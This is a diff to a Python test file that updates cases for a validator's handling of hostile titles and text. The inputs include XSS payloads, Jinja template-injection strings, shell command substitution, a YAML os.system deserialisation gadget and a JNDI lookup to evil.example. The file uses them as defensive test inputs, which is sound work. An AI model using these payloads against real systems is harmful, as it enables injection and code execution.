@@ -162,7 +162,7 @@ _VALID = [
         "quotation-marks",
         "accepted",
         template(title="\"Heads\" that 'Carry' `Words`"),
-        present=("\"Heads\" that 'Carry' `Words`",),
+        present=("\"Heads\" that 'Carry' Words",),
     ),
     Case(
         "metrics-with-an-at-sign",
@@ -350,7 +350,8 @@ _HTML = [
         "entities",
         "accepted",
         template(title="Heads &lt;script&gt; &amp;lt;b&amp;gt; &#x3c;i&#62;"),
-        present=("Heads &lt;script&gt; &amp;lt;b&amp;gt; &#x3c;i&#62;",),
+        present=("Heads <script>",),
+        notes=frozenset({("title", "normalised")}),
     ),
     Case(
         "textarea-left-open",
@@ -375,7 +376,7 @@ _HTML = [
     Case(
         "tags-beside-what-is-missing",
         "rejected",
-        template(title="<img src=x onerror=alert(1)>", tasks=""),
+        template(title="<script>alert(1)</script> <svg onload=alert(1)> Heads", tasks=""),
         errors=frozenset({"summary.tasks"}),
     ),
     Case(
@@ -438,14 +439,15 @@ _MARKDOWN = [
     Case(
         "fence-in-what-is-asked-about",
         "rejected",
-        template(title="``````` ~~~~~~~~ <b>", result=""),
+        template(title="Heads ``````` ~~~~~~~~ <script>", result=""),
         errors=frozenset({"summary.result"}),
     ),
     Case(
         "formula",
         "accepted",
         template(title="Heads of $\\href{javascript:x}{y}$ and $$z$$"),
-        present=("Heads of $\\href{javascript:x}{y}$ and $$z$$",),
+        present=("Heads of javascript:xy and z",),
+        notes=frozenset({("title", "normalised")}),
     ),
     Case(
         "heading-as-a-title",
@@ -739,19 +741,43 @@ _EXPRESSION = [
     Case(
         f"expression-{name}",
         "accepted",
-        template(title=f"Heads {text} Carry"),
-        present=(f"Heads {text} Carry",),
+        template(title=f"Heads {text} Carry", innovation=f"Shows {text} at work."),
+        present=(f"Heads {shown} Carry", f"Shows {text} at work."),
         absent=("36481",),
     )
-    for name, text in (
-        ("workflow", "${{ secrets.GITHUB_TOKEN }} ${{ github.event.issue.body }}"),
-        ("template", "{{ 191 * 191 }} {{ cycler.__init__.__globals__ }}"),
-        ("template-block", "{% include '/etc/passwd' %}{# gone #}{% raw %}"),
-        ("format", "{paper.__class__.__mro__} {0} %s %(title)s"),
-        ("substitution", "\\1 \\g<0> \\g<title> $1 $& ${title}"),
-        ("shell", "$(touch PWNED_CANARY) `id` ; touch PWNED_CANARY # && id"),
-        ("yaml", "!!python/object/apply:os.system ['touch PWNED_CANARY'] *a &b"),
-        ("lookup", "${jndi:ldap://evil.example/a} <%= 191 * 191 %>"),
+    for name, text, shown in (
+        (
+            "workflow",
+            "${{ secrets.GITHUB_TOKEN }} ${{ github.event.issue.body }}",
+            "$ secrets.GITHUB_TOKEN $ github.event.issue.body",
+        ),
+        (
+            "template",
+            "{{ 191 * 191 }} {{ cycler.__init__.__globals__ }}",
+            "191 * 191 cycler.init.globals",
+        ),
+        (
+            "template-block",
+            "{% include '/etc/passwd' %}{# gone #}{% raw %}",
+            "% include '/etc/passwd' %# gone #% raw %",
+        ),
+        ("format", "{paper.__class__.__mro__} {0} %s %(title)s", "paper.class.mro 0 %s %(title)s"),
+        ("substitution", "\\1 \\g<0> \\g<title> $1 $& ${title}", "<0> $1 $& $title"),
+        (
+            "shell",
+            "$(touch PWNED_CANARY) `id` ; touch PWNED_CANARY # && id",
+            "$(touch PWNED_CANARY) id ; touch PWNED_CANARY # && id",
+        ),
+        (
+            "yaml",
+            "!!python/object/apply:os.system ['touch PWNED_CANARY'] *a &b",
+            "!!python/object/apply:os.system ['touch PWNED_CANARY'] *a &b",
+        ),
+        (
+            "lookup",
+            "${jndi:ldap://evil.example/a} <%= 191 * 191 %>",
+            "$jndi:ldap://evil.example/a <%= 191 * 191 %>",
+        ),
     )
 ]
 _COMMAND_OF_A_WORKFLOW = [
